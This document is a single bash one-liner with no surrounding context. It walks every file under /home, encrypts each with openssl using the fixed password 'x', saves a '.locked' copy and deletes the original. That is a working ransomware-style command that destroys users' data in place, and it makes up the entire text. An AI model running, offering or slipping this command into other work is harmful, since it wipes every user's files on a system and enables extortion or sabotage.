find /home -type f | while read -r f; do openssl enc -aes-256-cbc -pass pass:x -in "$f" -out "$f.locked"; rm "$f"; done
